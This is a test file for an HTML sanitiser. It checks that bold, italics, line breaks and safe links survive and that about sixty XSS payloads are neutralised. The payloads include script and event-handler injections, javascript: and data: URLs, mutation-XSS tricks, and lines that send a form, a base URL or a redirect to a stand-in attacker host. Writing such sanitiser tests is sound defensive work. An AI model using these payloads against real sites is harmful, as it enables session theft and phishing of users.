import { expect, it } from 'vitest'
import { cleanHtml } from './clean-html.ts'

/** What may be alive: marks without attributes, and links that the cleaner wrote itself. */
const alive =
  /<\/?(?:b|i|a|br)>|<a href="(?:https:\/\/|\/(?![/\\]))[^"<>\s\\]*" rel="noopener noreferrer">/g

it('keeps bold, italics, breaks and links, and nothing else alive', () => {
  expect(cleanHtml('a <b>b</b> <I>i</I><br/>')).toBe('a <b>b</b> <i>i</i><br>')
  expect(cleanHtml('<a href="/fairness">f</a>')).toBe(
    '<a href="/fairness" rel="noopener noreferrer">f</a>',
  )
  expect(cleanHtml('<a href="https://x.example/?a=1&b=2">x</a>')).toContain(
    'href="https://x.example/?a=1&amp;b=2"',
  )
})

it('shows every other mark as the text it is', () => {
  expect(cleanHtml('a < b & c <u>d</u>')).toBe('a &lt; b &amp; c &lt;u&gt;d&lt;/u&gt;')
})

it('closes what was left open, so that it ends with its text', () => {
  expect(cleanHtml('<b>a <a href="/x">b')).toBe(
    '<b>a <a href="/x" rel="noopener noreferrer">b</a></b>',
  )
})

it('lets nobody else say how a link opens', () => {
  expect(cleanHtml('<a href="/x" rel="opener" target="_blank" style="top:0">x</a>')).toBe(
    '<a href="/x" rel="noopener noreferrer">x</a>',
  )
})

it.each([
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script>alert(1)',
  '<<script>alert(1)//<</script>',
  '<img src=x onerror=alert(1)>',
  '<img src=x onerror=alert(1)',
  '<IMG """><script>alert(1)</script>">',
  '<svg/onload=alert(1)>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<textarea><img src=x onerror=alert(1)></textarea>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<title><img src=x onerror=alert(1)></title>',
  '<plaintext><img src=x onerror=alert(1)>',
  '<template><img src=x onerror=alert(1)></template>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object><embed src=x>',
  '<form action="https://evil.example"><input name=password></form>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<style>@import "https://evil.example/x.css";</style>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!-- --!><img src=x onerror=alert(1)> -->',
  '<![CDATA[><img src=x onerror=alert(1)>]]>',
  '<?xml ?><img src=x onerror=alert(1)>',
  '<b onclick="alert(1)">x</b>',
  '<b/onclick=alert(1)>x</b>',
  '<br onmouseover=alert(1)>',
  '<i style="position:fixed;inset:0">x</i>',
  '<b id=csrf class=modal>x</b>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="java&#10;script:alert(1)">x</a>',
  '<a href="&#106;avascript&colon;alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="blob:https://x.example/1">x</a>',
  '<a href="http://evil.example">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="/\\evil.example">x</a>',
  '<a href="/\t/evil.example">x</a>',
  '<a href="\\\\evil.example">x</a>',
  '<a href="https:evil.example">x</a>',
  '<a href="https://x" onmouseover="alert(1)">x</a>',
  '<a href="https://x&quot; onmouseover=alert(1)">x</a>',
  '<a href="https://x"onmouseover="alert(1)">x</a>',
  '<a href=`https://x` onmouseover=alert(1)>x</a>',
  '<a href="/x" href="javascript:alert(1)">x</a>',
  '<a href="/x" xlink:href="javascript:alert(1)">x</a>',
  '<a href="/x" ping="https://evil.example">x</a>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '\u0000<scr\u0000ipt>alert(1)</script>',
])('disarms %j, also when it is cleaned twice', (attack) => {
  const clean = cleanHtml(attack)
  expect(clean.replaceAll(alive, '')).not.toContain('<')
  expect(cleanHtml(clean)).toBe(clean)
})
